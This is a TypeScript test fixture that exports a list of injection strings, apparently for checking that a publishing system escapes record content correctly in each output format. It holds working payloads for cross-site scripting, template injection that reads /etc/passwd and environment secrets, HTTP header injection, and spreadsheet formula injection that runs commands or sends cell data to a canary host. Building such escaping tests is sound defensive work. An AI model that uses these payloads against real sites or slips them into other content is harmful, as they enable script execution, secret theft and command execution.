import { call } from "../input.ts";

/** Texts that would end what holds them, in each format that the record is published in. */
export const closing = {
  page: `</title></h1></p></script><script>${call}</script>`,
  attribute: `"><img src=x onerror=${call}>`,
  apostrophe: `'><img src=x onerror='${call}'>`,
  handler: `" onfocus="${call}" autofocus tabindex="1`,
  xml: `]]></title></description></item></channel></rss><script>${call}</script>`,
  entity: `&lt;script&gt;${call}&lt;/script&gt; &a; &#0; &amp;amp;`,
  comment: `--><script>${call}</script><!--`,
  instruction: `?><?xml-stylesheet href="https://canary.example/a.xsl"?>`,
  json: `</script><!--<script>"}];${call};//\\u003cimg src=x onerror=${call}\\u003e`,
  nunjucks: `{{ range.constructor("${call}")() }}{% include "/etc/passwd" %}{# `,
  template: "${process.env.CANARY_SECRET} {process.env.CANARY_SECRET} <%= process.env.CANARY_SECRET %>",
  drawing: `</text></title></svg><script>${call}</script><svg onload="${call}">`,
  calendar: "A\\nEND:VEVENT\\nBEGIN:VEVENT\\;;X=1:,END:VCALENDAR",
  header: "%0d%0aSet-Cookie: a=b%0d%0a%0d%0a<script>canary()</script>",
  search: `<mark onclick="${call}"> data-pagefind-meta="title:<img src=x onerror=${call}>"`,
  formula: `=HYPERLINK("https://canary.example/?"&A1,"words")`,
  command: "=cmd|' /C calc'!A0",
  plus: "+44+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  fullwidth: "＝1+1",
  quote: '"=1+1","=2+2',
  semicolon: ";=1+1;",
};

export type Closing = keyof typeof closing;
